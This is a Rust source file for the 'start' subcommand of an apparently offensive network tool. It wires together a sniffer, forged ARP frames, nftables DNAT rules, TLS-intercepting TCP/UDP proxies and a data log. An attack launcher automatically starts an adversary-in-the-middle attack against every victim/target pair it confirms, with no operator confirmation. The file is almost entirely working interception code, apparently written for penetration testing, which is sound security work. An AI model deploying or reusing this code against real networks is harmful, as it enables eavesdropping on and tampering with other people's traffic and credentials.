//! The `start` subcommand (spec.md §6): brings up the sniffer, the ARP
//! and DNS senders, the netfilter plane, the TCP/UDP proxies, and an
//! attack launcher that opens an `AttackEngine` for every SNAC the
//! sniffer confirms. Rendering an operator-facing TUI is out of scope
//! (spec.md Non-goals), so this is the core's only trigger for "on
//! demand" exploitation: every newly confirmed SNAC is attacked
//! automatically, relaying into the first recorded AITM Opportunity for
//! its target IP if one exists.

use std::collections::HashSet;
use std::net::{IpAddr, Ipv4Addr, SocketAddr};
use std::path::PathBuf;
use std::sync::Arc;
use std::time::Duration;

use clap::Args;
use ipnetwork::{IpNetwork, Ipv4Network};
use pnet::util::MacAddr;
use pnet_packet::arp::ArpPacket;
use pnet_packet::ethernet::{EtherTypes, EthernetPacket};
use pnet_packet::ipv4::Ipv4Packet;
use pnet_packet::Packet;
use tokio::sync::mpsc;
use tokio_util::sync::CancellationToken;
use tracing::{info, warn};

use eavesarp_attack::engine::AttackEngine;
use eavesarp_attack::handlers::PacketCounter;
use eavesarp_attack::netfilter::NetfilterPlane;
use eavesarp_attack::ConnectionMap;
use eavesarp_core::config::{ArpSenderConfig, Config, DnsResolverConfig, LogLevel, RateGateConfig};
use eavesarp_core::store::Store;
use eavesarp_net::arp_sender::ArpSender;
use eavesarp_net::dns_resolver::DnsResolver;
use eavesarp_net::rate_gate::RateGate;
use eavesarp_net::sink::PnetFrameSink;
use eavesarp_net::sniffer::{spawn_capture_thread, Sniffer};
use eavesarp_proxy::tcp_proxy::TcpProxy;
use eavesarp_proxy::tls_cache::TlsCertCache;
use eavesarp_proxy::udp_proxy::UdpProxy;
use eavesarp_proxy::DataLogSink;

use crate::error::{Error, Result};

/// Fixed local listen ports for the TCP/UDP proxies that the netfilter
/// plane's DNAT rules point at. Never operator-facing: traffic only
/// reaches them via DNAT, so there is no CLI flag for them.
const TCP_PROXY_PORT: u16 = 18443;
const UDP_PROXY_PORT: u16 = 18444;
const ATTACK_LAUNCHER_INTERVAL: Duration = Duration::from_secs(2);
const ATTACK_CAPTURE_CHANNEL_CAPACITY: usize = 256;

#[derive(Debug, Args)]
pub struct StartArgs {
    /// Network interface to capture on and send forged frames out of.
    #[arg(long)]
    interface: String,

    /// This host's IPv4 address on `interface`. Auto-detected from the
    /// interface's configured addresses when omitted.
    #[arg(long)]
    interface_addr: Option<Ipv4Addr>,

    #[arg(long, default_value = "eavesarp.db")]
    db_file: PathBuf,

    #[arg(long)]
    log_file: Option<PathBuf>,

    #[arg(long, default_value = "info")]
    log_level: LogLevel,

    #[arg(long, default_value = "eavesarp_data.jsonl")]
    data_file: PathBuf,
}

pub async fn run(args: StartArgs) -> Result<()> {
    let interface = pnet_datalink::interfaces()
        .into_iter()
        .find(|i| i.name == args.interface)
        .ok_or_else(|| Error::Config(format!("no such interface: {}", args.interface)))?;

    let interface_mac = interface
        .mac
        .ok_or_else(|| Error::Config(format!("interface {} has no hardware address", args.interface)))?;

    let (interface_addr, subnet) = resolve_address_and_subnet(&interface, args.interface_addr)?;

    let config = Arc::new(Config {
        interface: args.interface.clone(),
        interface_addr,
        subnet,
        db_file: args.db_file,
        log_file: args.log_file,
        log_level: args.log_level,
        data_file: Some(args.data_file),
        rate_gate: RateGateConfig::default(),
        arp_sender: ArpSenderConfig::default(),
        dns_resolver: DnsResolverConfig::default(),
    });

    crate::logging::init(&config)?;
    info!(interface = %config.interface, addr = %config.interface_addr, subnet = %config.subnet, "starting");

    let store = Arc::new(Store::open(&config.db_file)?);

    let root_cancel = CancellationToken::new();
    {
        let root_cancel = root_cancel.clone();
        ctrlc::set_handler(move || {
            warn!("received interrupt, cancelling");
            root_cancel.cancel();
        })
        .map_err(|e| Error::Config(format!("failed to install signal handler: {e}")))?;
    }

    let rate_gate = Arc::new(RateGate::new(config.rate_gate));

    let send_channel = pnet_datalink::channel(&interface, Default::default())
        .map_err(|e| eavesarp_net::Error::Capture(e.to_string()))?;
    let send_half = match send_channel {
        pnet_datalink::Channel::Ethernet(tx, _rx) => tx,
        _ => return Err(Error::Config("unsupported datalink channel type".into())),
    };
    let arp_sink: Arc<dyn eavesarp_net::sink::FrameSink> = Arc::new(PnetFrameSink::new(send_half));
    let arp_sender = ArpSender::new(config.arp_sender, Arc::clone(&rate_gate), arp_sink, Arc::clone(&store));
    tokio::spawn(Arc::clone(&arp_sender).run(root_cancel.clone()));

    let dns_resolver = Arc::new(DnsResolver::new(config.dns_resolver, Arc::clone(&store))?);

    let sniffer = Arc::new(Sniffer {
        store: Arc::clone(&store),
        config: Arc::clone(&config),
        arp_sender: Arc::clone(&arp_sender),
        dns_resolver: Arc::clone(&dns_resolver),
        interface_mac,
    });
    let (sniff_tx, sniff_rx) = mpsc::channel(ATTACK_CAPTURE_CHANNEL_CAPACITY);
    spawn_capture_thread(interface.clone(), sniff_tx, root_cancel.clone())?;
    tokio::spawn(Arc::clone(&sniffer).run(sniff_rx, root_cancel.clone()));

    NetfilterPlane::warn_about_stale_tables();
    let netfilter = Arc::new(NetfilterPlane::create(interface_addr, TCP_PROXY_PORT, UDP_PROXY_PORT)?);

    let conn_map = ConnectionMap::new();
    let tls_cache = TlsCertCache::new();
    let datalog = DataLogSink::spawn(
        config
            .data_file
            .as_deref()
            .expect("data_file always set by start"),
    )?;

    let tcp_proxy = Arc::new(TcpProxy::new(
        SocketAddr::new(IpAddr::V4(interface_addr), TCP_PROXY_PORT),
        Arc::clone(&store),
        conn_map.clone(),
        Arc::clone(&tls_cache),
        Arc::clone(&datalog),
    ));
    tokio::spawn(Arc::clone(&tcp_proxy).run(root_cancel.clone()));

    let udp_proxy = Arc::new(UdpProxy::new(
        SocketAddr::new(IpAddr::V4(interface_addr), UDP_PROXY_PORT),
        conn_map.clone(),
        Arc::clone(&datalog),
    ));
    tokio::spawn(Arc::clone(&udp_proxy).run(root_cancel.clone()));

    let launcher = tokio::spawn(attack_launcher(
        Arc::clone(&store),
        Arc::clone(&config),
        Arc::clone(&arp_sender),
        Arc::clone(&netfilter),
        conn_map.clone(),
        interface.clone(),
        interface_mac,
        root_cancel.clone(),
    ));

    root_cancel.cancelled().await;
    info!("cancellation received, draining subsystems");
    let _ = launcher.await;
    datalog.close();
    if let Err(e) = netfilter.teardown() {
        warn!(error = %e, "failed to tear down nftables table on shutdown");
    }
    info!("shutdown complete");
    Ok(())
}

/// Resolves the interface's IPv4 address and the subnet it belongs to.
/// Without `--interface-addr`, the first configured IPv4 network on the
/// interface is used; with it, the matching network is preferred and a
/// bare /24 is assumed if the address isn't one of the interface's own.
fn resolve_address_and_subnet(
    interface: &pnet_datalink::NetworkInterface,
    explicit_addr: Option<Ipv4Addr>,
) -> Result<(Ipv4Addr, Ipv4Network)> {
    let v4_networks: Vec<Ipv4Network> = interface
        .ips
        .iter()
        .filter_map(|net| match net {
            IpNetwork::V4(v4) => Some(*v4),
            IpNetwork::V6(_) => None,
        })
        .collect();

    match explicit_addr {
        Some(addr) => {
            if let Some(net) = v4_networks.iter().find(|n| n.ip() == addr) {
                Ok((addr, *net))
            } else {
                let net = Ipv4Network::new(addr, 24)
                    .map_err(|e| Error::Config(format!("invalid interface address: {e}")))?;
                Ok((addr, net))
            }
        }
        None => {
            let net = v4_networks
                .first()
                .ok_or_else(|| Error::Config(format!("interface {} has no IPv4 address", interface.name)))?;
            Ok((net.ip(), *net))
        }
    }
}

/// Polls the store for confirmed SNACs and opens an `AttackEngine` for
/// every `(victim, target)` pair not already attacked this run.
#[allow(clippy::too_many_arguments)]
async fn attack_launcher(
    store: Arc<Store>,
    config: Arc<Config>,
    arp_sender: Arc<ArpSender>,
    netfilter: Arc<NetfilterPlane>,
    conn_map: ConnectionMap,
    interface: pnet_datalink::NetworkInterface,
    interface_mac: MacAddr,
    cancel: CancellationToken,
) {
    let mut launched: HashSet<(Ipv4Addr, Ipv4Addr)> = HashSet::new();
    loop {
        tokio::select! {
            _ = cancel.cancelled() => break,
            _ = tokio::time::sleep(ATTACK_LAUNCHER_INTERVAL) => {}
        }

        let rows = match store.dump_snacs() {
            Ok(rows) => rows,
            Err(e) => {
                warn!(error = %e, "failed to query snacs for attack launcher");
                continue;
            }
        };
        for row in rows {
            let key = (row.sender_ip, row.target_ip);
            if !launched.insert(key) {
                continue;
            }
            if let Err(e) = launch_attack(
                &store,
                &config,
                &arp_sender,
                &netfilter,
                conn_map.clone(),
                &interface,
                interface_mac,
                row.sender_ip,
                row.target_ip,
                cancel.child_token(),
            )
            .await
            {
                warn!(error = %e, victim = %row.sender_ip, target = %row.target_ip, "failed to launch attack");
                launched.remove(&key);
            }
        }
    }
}

#[allow(clippy::too_many_arguments)]
async fn launch_attack(
    store: &Arc<Store>,
    config: &Arc<Config>,
    arp_sender: &Arc<ArpSender>,
    netfilter: &Arc<NetfilterPlane>,
    conn_map: ConnectionMap,
    interface: &pnet_datalink::NetworkInterface,
    interface_mac: MacAddr,
    victim_ip: Ipv4Addr,
    target_ip: Ipv4Addr,
    cancel: CancellationToken,
) -> Result<()> {
    let sender_ip_id = store
        .get_ip(victim_ip)?
        .ok_or_else(|| Error::Config(format!("victim {victim_ip} vanished from store")))?
        .id;
    let target_ip_id = store
        .get_ip(target_ip)?
        .ok_or_else(|| Error::Config(format!("target {target_ip} vanished from store")))?
        .id;
    let attack_id = store.create_attack(sender_ip_id, target_ip_id)?;
    let downstream_ip = store.aitm_opportunities_for(target_ip)?.into_iter().next();

    let mut engine = AttackEngine::new(
        attack_id,
        victim_ip,
        target_ip,
        downstream_ip,
        Arc::clone(config),
        Arc::clone(store),
        Arc::clone(arp_sender),
        Arc::clone(netfilter),
        conn_map,
        interface_mac,
    );
    engine.register_handler(Arc::new(PacketCounter::new(100)));
    let engine = Arc::new(engine);

    let (raw_tx, mut raw_rx) = mpsc::channel::<Vec<u8>>(ATTACK_CAPTURE_CHANNEL_CAPACITY);
    spawn_capture_thread(interface.clone(), raw_tx, cancel.clone())
        .map_err(|e| Error::Config(format!("attack capture setup failed: {e}")))?;

    let (filtered_tx, filtered_rx) = mpsc::channel::<Vec<u8>>(ATTACK_CAPTURE_CHANNEL_CAPACITY);
    let filter_cancel = cancel.clone();
    tokio::spawn(async move {
        loop {
            let frame = tokio::select! {
                _ = filter_cancel.cancelled() => break,
                frame = raw_rx.recv() => match frame {
                    Some(f) => f,
                    None => break,
                },
            };
            if involves_pair(&frame, victim_ip, target_ip) && filtered_tx.send(frame).await.is_err() {
                break;
            }
        }
    });

    info!(victim = %victim_ip, target = %target_ip, attack_id, "launching attack");
    tokio::spawn(engine.run(filtered_rx, cancel));
    Ok(())
}

/// Post-capture filter standing in for the BPF filter spec.md §4.4
/// describes — `pnet_datalink` exposes none, so every attack's capture
/// thread sees the whole interface and this narrows it to the one
/// victim<->target conversation, by ARP sender/target or IPv4 src/dst.
fn involves_pair(frame: &[u8], a: Ipv4Addr, b: Ipv4Addr) -> bool {
    let Some(eth) = EthernetPacket::new(frame) else { return false };
    match eth.get_ethertype() {
        EtherTypes::Arp => match ArpPacket::new(eth.payload()) {
            Some(arp) => {
                let (s, t) = (arp.get_sender_proto_addr(), arp.get_target_proto_addr());
                (s == a && t == b) || (s == b && t == a)
            }
            None => false,
        },
        EtherTypes::Ipv4 => match Ipv4Packet::new(eth.payload()) {
            Some(ip) => {
                let (s, d) = (ip.get_source(), ip.get_destination());
                (s == a && d == b) || (s == b && d == a)
            }
            None => false,
        },
        _ => false,
    }
}
